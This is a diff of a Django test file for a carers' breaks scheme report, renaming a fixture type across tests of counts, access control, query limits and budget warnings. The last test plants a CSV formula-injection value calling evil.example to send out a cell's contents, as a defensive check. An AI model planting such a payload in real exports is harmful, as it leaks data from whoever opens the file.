@@ -17,13 +17,12 @@ from coproduce.breaks.models import (
     WellbeingMoment,
     WellbeingResponse,
 )
-from coproduce.breaks.tests.conftest import Setting
 from coproduce.breaks.tests.factories import PracticeFactory
-from coproduce.conftest import Member
+from coproduce.conftest import BreaksScheme, Member
 
 
 def referral(
-    breaks: Setting,
+    breaks: BreaksScheme,
     status: str,
     *,
     name: str = "Ann Lee",
@@ -52,7 +51,7 @@ def referral(
 
 
 def test_the_report_counts_referrals_approvals_payments_and_signed_up_practices(
-    breaks: Setting,
+    breaks: BreaksScheme,
 ) -> None:
     PracticeFactory.create(scheme=breaks.scheme, signed_up_at=None)
     paid = referral(breaks, ReferralStatus.PAID, amount="300")
@@ -98,7 +97,7 @@ def test_the_report_counts_referrals_approvals_payments_and_signed_up_practices(
 
 
 def test_the_report_page_shows_a_chart_with_its_data_table_and_a_csv(
-    coordinator_client: Client, breaks: Setting
+    coordinator_client: Client, breaks: BreaksScheme
 ) -> None:
     referral(breaks, ReferralStatus.PAID, amount="300")
     html = coordinator_client.get(
@@ -114,7 +113,7 @@ def test_the_report_page_shows_a_chart_with_its_data_table_and_a_csv(
 
 
 def test_other_organisations_cannot_see_a_schemes_figures(
-    staff_b_client: Client, carer_client: Client, breaks: Setting
+    staff_b_client: Client, carer_client: Client, breaks: BreaksScheme
 ) -> None:
     assert staff_b_client.get(reverse("breaks:report", args=[breaks.scheme.pk])).status_code == 404
     assert (
@@ -126,7 +125,7 @@ def test_other_organisations_cannot_see_a_schemes_figures(
 
 @pytest.mark.parametrize("count", [2, 40])
 def test_the_report_runs_a_fixed_number_of_queries(
-    coordinator_client: Client, breaks: Setting, count: int, django_assert_num_queries: Any
+    coordinator_client: Client, breaks: BreaksScheme, count: int, django_assert_num_queries: Any
 ) -> None:
     for n in range(count):
         referral(breaks, ReferralStatus.PAID, name=f"Carer {n}", days_ago=n * 7 + 1, amount="300")
@@ -136,7 +135,7 @@ def test_the_report_runs_a_fixed_number_of_queries(
     assert response.status_code == 200
 
 
-def test_a_partner_organisation_sees_the_figures(breaks: Setting, surgery_org: Any) -> None:
+def test_a_partner_organisation_sees_the_figures(breaks: BreaksScheme, surgery_org: Any) -> None:
     from coproduce.conftest import make_member, signed_in
     from coproduce.tenancy.models import Role
 
@@ -163,7 +162,7 @@ def test_money_is_shown_with_thousands_separators_and_pence(
 
 
 def test_the_report_warns_when_payments_made_and_approved_go_over_the_budget(
-    coordinator_client: Client, breaks: Setting
+    coordinator_client: Client, breaks: BreaksScheme
 ) -> None:
     breaks.scheme.budget = Decimal("1000.00")
     breaks.scheme.save()
@@ -181,7 +180,7 @@ def test_the_report_warns_when_payments_made_and_approved_go_over_the_budget(
 
 
 def test_the_report_shows_what_is_left_of_the_budget_without_a_warning(
-    coordinator_client: Client, breaks: Setting
+    coordinator_client: Client, breaks: BreaksScheme
 ) -> None:
     referral(breaks, ReferralStatus.PAID, amount="300")
     referral(breaks, ReferralStatus.APPROVED, name="Bo Chan", amount="200")
@@ -196,7 +195,7 @@ def test_the_report_shows_what_is_left_of_the_budget_without_a_warning(
 
 
 def test_a_practice_name_never_runs_as_a_formula_in_the_figures_csv(
-    coordinator_client: Client, breaks: Setting
+    coordinator_client: Client, breaks: BreaksScheme
 ) -> None:
     breaks.practice.name = '=HYPERLINK("http://evil.example/?"&B2,"Surgery")'
     breaks.practice.save()
